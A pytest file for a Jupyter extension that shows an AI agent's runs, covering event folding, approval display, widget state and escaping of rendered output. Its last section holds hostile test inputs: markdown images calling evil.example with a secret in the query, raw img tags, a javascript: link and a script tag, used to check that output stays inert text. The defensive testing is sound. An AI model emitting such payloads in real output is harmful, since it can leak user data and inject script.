"""A run's events folded into what a view shows and what ask() returns."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from markdown_it import MarkdownIt

from terax_jupyter.notebook.policy import Verdict
from terax_jupyter.notebook.results import RunFold, code_span, escape_markdown, fenced
from terax_jupyter.notebook.terminal import CommandFailed, CommandResult, kernel_folder
from terax_jupyter.notebook.views import TextView


def approval_json(approval_id: str, tool: str, call_id: str, **proposal: Any) -> dict[str, Any]:
    return {
        "id": approval_id,
        "session_id": "s1",
        "run_id": "r1",
        "call_id": call_id,
        "tool": tool,
        "status": "pending",
        "proposal": {"tool": tool, "kind": "edit", "summary": f"{tool} it", **proposal},
    }


EVENTS: list[dict[str, Any]] = [
    {"type": "run_started", "run_id": "r1", "run": {"id": "r1"}},
    {"type": "step", "index": 0, "run_id": "r1"},
    {"type": "text_delta", "text": "Let me ", "run_id": "r1"},
    {"type": "text_delta", "text": "look.", "run_id": "r1"},
    {"type": "tool_call_started", "call_id": "c1", "name": "edit", "arguments": {"path": "a.py"}},
    {"type": "approval_requested", "approval": approval_json("p1", "edit", "c1", path="a.py")},
    {"type": "approval_resolved", "approval": {"id": "p1", "status": "approved"}},
    {
        "type": "tool_call_finished",
        "call_id": "c1",
        "name": "edit",
        "status": "done",
        "content": "Applied 1 of 1 hunks to a.py.",
        "data": {"path": "a.py", "hunks_applied": 1, "hunks_total": 1},
    },
    {"type": "usage", "input_tokens": 10, "output_tokens": 4, "cached_tokens": 0, "cost": None},
    {"type": "step", "index": 1, "run_id": "r1"},
    {"type": "tool_call_started", "call_id": "c2", "name": "bash_run", "arguments": {}},
    {
        "type": "approval_requested",
        "approval": approval_json("p2", "bash_run", "c2", command="rm x"),
    },
    {"type": "approval_resolved", "approval": {"id": "p2", "status": "denied"}},
    {"type": "tool_call_finished", "call_id": "c2", "name": "bash_run", "status": "denied"},
    {"type": "text_delta", "text": "SUB", "parent_call_id": "c9", "run_id": "r1"},
    {"type": "step", "index": 2, "run_id": "r1"},
    {"type": "text_delta", "text": "Done: edited a.py.", "run_id": "r1"},
    {"type": "usage", "input_tokens": 20, "output_tokens": 6, "cached_tokens": 2, "cost": 0.5},
    {"type": "finish", "reason": "stop", "run_id": "r1"},
]


def folded() -> RunFold:
    fold = RunFold("s1")
    for event in EVENTS:
        fold.apply(event)
        if event["type"] == "approval_requested" and event["approval"]["id"] == "p2":
            fold.decided("p2", Verdict("deny", "headless", "nobody there"))
    return fold


def test_the_fold_keeps_the_final_text_calls_approvals_and_usage() -> None:
    result = folded().result()
    assert result.text == "Done: edited a.py."  # the last model call's text
    assert result.run_id == "r1"
    assert result.finish == "stop"
    assert result.ok
    assert [(c.name, c.status) for c in result.tool_calls] == [
        ("edit", "done"),
        ("bash_run", "denied"),
    ]
    assert result.files_changed == ["a.py"]
    by = {a.approval.id: (a.status, a.by) for a in result.approvals}
    assert by == {"p1": ("approved", "person"), "p2": ("denied", "headless")}
    assert (result.usage.input_tokens, result.usage.output_tokens) == (30, 10)
    assert result.usage.cost == 0.5
    assert str(result) == "Done: edited a.py."
    assert "changed a\\.py" in result._repr_markdown_()


def test_a_run_whose_tool_call_the_output_limit_cut_is_not_ok() -> None:
    fold = RunFold("s1")
    for event in EVENTS:
        if event["type"] == "finish":
            event = {**event, "reason": "output_limit"}
        fold.apply(event)
    result = fold.result()
    assert result.finish == "output_limit"
    assert not result.ok


def test_the_store_has_the_last_word_on_text_and_calls() -> None:
    fold = folded()
    messages = [
        {"run_id": "r0", "role": "assistant", "content": "an older run"},
        {"run_id": "r1", "role": "assistant", "content": "Let me look."},
        {"run_id": "r1", "role": "tool", "content": "ok"},
        {"run_id": "r1", "role": "assistant", "content": "Done: edited a.py."},
    ]
    calls = [
        {"id": "c0", "run_id": "r0", "name": "write_file", "status": "done", "arguments": {}},
        {
            "id": "c1",
            "run_id": "r1",
            "name": "edit",
            "status": "done",
            "arguments": {"path": "a.py"},
            "data": {"path": "a.py", "hunks_applied": 1},
            "result": "Applied",
        },
    ]
    result = fold.result(messages, calls)
    assert result.text == "Done: edited a.py."
    assert [c.id for c in result.tool_calls] == ["c1"]
    assert result.files_changed == ["a.py"]


def test_a_partial_approval_with_no_hunks_changes_no_file() -> None:
    fold = RunFold("s1")
    fold.apply({"type": "tool_call_started", "call_id": "c", "name": "edit", "arguments": {}})
    fold.apply(
        {
            "type": "tool_call_finished",
            "call_id": "c",
            "name": "edit",
            "status": "done",
            "data": {"path": "a.py", "hunks_applied": 0},
        }
    )
    assert fold.result().files_changed == []


def test_events_of_another_run_are_not_ours() -> None:
    fold = RunFold("s1")
    fold.run_id = "r1"
    assert fold.ours({"type": "text_delta", "run_id": "r1"})
    assert not fold.ours({"type": "text_delta", "run_id": "r2"})
    assert fold.ours({"type": "rules"})  # session events carry no run


def test_the_text_view_streams_and_says_who_decided() -> None:
    import io

    out = io.StringIO()
    view = TextView(out)
    fold = RunFold("s1")
    for event in EVENTS:
        fold.apply(event)
        view.event(event, fold)
    text = out.getvalue()
    assert "Let me look." in text
    assert "Done: edited a.py." in text
    assert "[edit] a.py" in text
    assert "Approved by a person: edit it" in text
    assert "SUB" not in text  # a sub-agent's text shows only as its call's answer


def test_command_results() -> None:
    answer = {
        "block": {"id": 3, "command": "false", "cwd": "/p", "exit_code": 1, "duration_ms": 1500},
        "text": "nope\n",
        "truncated": False,
    }
    result = CommandResult.from_json("t1", answer)
    assert (result.exit_code, result.output, result.duration, result.block_id) == (
        1,
        "nope\n",
        1.5,
        3,
    )
    assert not result.ok
    with pytest.raises(CommandFailed) as failed:
        result.check()
    assert failed.value.result is result
    assert "exited **1**" in result._repr_markdown_()


def test_the_terminal_starts_in_the_kernels_folder_when_the_server_sees_it(
    tmp_path: Any, monkeypatch: Any
) -> None:
    inner = tmp_path / "project" / "notebooks"
    inner.mkdir(parents=True)
    monkeypatch.chdir(inner)
    assert kernel_folder(str(tmp_path / "project")) == str(inner)
    assert kernel_folder(str(tmp_path / "elsewhere")) == ""


def test_the_widget_state_shows_the_run_and_offers_buttons_only_while_waiting() -> None:
    from terax_jupyter.notebook.widget import state

    fold = RunFold("s1")
    for event in EVENTS[:6]:  # up to the edit's approval_requested
        fold.apply(event)
    shown = state(
        fold, prompt="Go", session={"id": "s1", "title": "Go"}, status="running", waiting={"p1"}
    )
    assert [(i["kind"], i.get("text") or i.get("name") or i["tool"]) for i in shown["items"]] == [
        ("text", "Let me look."),
        ("call", "edit"),
        ("approval", "edit"),
    ]
    assert [(c["name"], c["target"], c["status"]) for c in shown["calls"]] == [
        ("edit", "a.py", "pending_approval")
    ]
    assert [(a["id"], a["waiting"]) for a in shown["approvals"]] == [("p1", True)]
    for event in EVENTS[6:]:
        fold.apply(event)
    shown = state(fold, prompt="Go", session={"id": "s1"}, status="finished", waiting={"p1"})
    assert [(a["id"], a["status"], a["waiting"]) for a in shown["approvals"]] == [
        ("p1", "approved", False),
        ("p2", "denied", False),
    ]
    texts = [i["text"] for i in shown["items"] if i["kind"] == "text"]
    assert texts == ["Let me look.", "Done: edited a.py."]  # a sub-agent's text is not shown
    assert [i["kind"] for i in shown["items"]] == [
        "text", "call", "approval", "call", "approval", "text"
    ]  # fmt: skip
    assert shown["finish"] == "stop"
    assert shown["usage"]["input_tokens"] == 30


def test_the_text_view_says_where_to_decide_and_who_decided() -> None:
    import io

    from terax_jupyter.notebook.policy import Approval

    out = io.StringIO()
    view = TextView(out)
    approval = Approval.from_json(approval_json("p9", "bash_run", "c9", command="make test"))
    view.waiting(approval, {"id": "s1", "title": "Fix the build"})
    view.decided(approval, Verdict("deny", "headless", "Denied: nobody there."))
    view.decided(approval, Verdict("approve", "rule", rule={"tool": "bash_run"}))
    text = out.getvalue()
    assert "Approval needed: bash_run it" in text
    assert "$ make test" in text
    assert "Terax AI panel (session 'Fix the build')" in text
    assert "Denied by the headless rule: bash_run it\n  Denied: nobody there." in text
    assert "Approved by the notebook's rule {'tool': 'bash_run'}: bash_run it" in text


def test_websocket_urls_carry_no_token() -> None:
    from terax_jupyter.client.discovery import ServerTarget
    from terax_jupyter.notebook.connection import Connection

    plain = Connection(ServerTarget("http://127.0.0.1:8888/user/a/", "secret", "test"))
    assert plain.websocket_url("ai/sessions/x/events", {"after": 3}) == (
        "ws://127.0.0.1:8888/user/a/terax/api/ai/sessions/x/events?after=3"
    )
    secure = Connection(ServerTarget("https://hub.example.org/user/a/", "secret", "test"))
    assert secure.websocket_url("pty/t/stream").startswith("wss://hub.example.org/user/a/")


def test_the_terminal_view_says_what_is_missing(tmp_path: Any, monkeypatch: Any) -> None:
    from terax_jupyter.notebook import terminal_view

    monkeypatch.setattr(terminal_view, "VENDOR", tmp_path)
    with pytest.raises(terminal_view.ViewUnavailable, match="jlpm build"):
        terminal_view._module()
    (tmp_path / "xterm.mjs").write_text("export { X as Terminal };")
    (tmp_path / "xterm.css").write_text(".xterm {}")
    script, css = terminal_view._module()
    assert script.startswith('const XTERM_SOURCE = "export { X as Terminal };";\n')
    assert "export default { render }" in script
    assert css.startswith(".xterm {}")


# -- what a cell shows of the model's text and a command's output: nothing that loads ---------

HOSTILE = (
    "Done. ![chart](http://evil.example/x.png?d=secret)\n\n"
    '<img src="http://evil.example/raw.png">\n\n'
    "[![badge](http://evil.example/b.svg)](http://evil.example)\n\n"
    "```\ninside a fence\n```\n"
    "````\n<img src=http://evil.example/after-fence.png>\n~~~~\n"
    '<a href="javascript:alert(1)">x</a> <script>alert(1)</script>\n'
)


def _html(markdown: str) -> str:
    # CommonMark with raw HTML on, as a trusted notebook output is rendered.
    return MarkdownIt("commonmark", {"html": True}).render(markdown)


def test_a_result_shows_the_models_text_without_rendering_it() -> None:
    result = replace(folded().result(), text=HOSTILE)
    rendered = _html(result._repr_markdown_())
    assert "<img" not in rendered
    assert "<script" not in rendered
    assert "<a " not in rendered
    assert "evil.example/x.png?d=secret" in rendered  # shown, as text
    # The facts line cannot be turned into markup by a file name or an error either.
    hostile_path = replace(result, error={"message": "![x](http://evil.example/e.png) <img src=x>"})
    assert "<img" not in _html(hostile_path._repr_markdown_())


@pytest.mark.parametrize("text", [HOSTILE, "`" * 7, "a\n```\n<img src=x>", ""])
def test_fences_and_code_spans_hold_whatever_is_inside(text: str) -> None:
    assert "<img" not in _html(fenced(text))
    assert "<img" not in _html(code_span(text))
    assert "<img" not in _html(escape_markdown(text))
    assert "<a " not in _html(escape_markdown(text))


def test_command_output_with_fences_stays_text() -> None:
    answer = {
        "block": {"id": 1, "command": "cat `x` README.md", "cwd": "/p", "exit_code": 0},
        "text": "```\n~~~~\n<img src=http://evil.example/t.png>\n",
        "truncated": False,
    }
    rendered = _html(CommandResult.from_json("t1", answer)._repr_markdown_())
    assert "<img" not in rendered
    assert "cat `x` README.md" in rendered
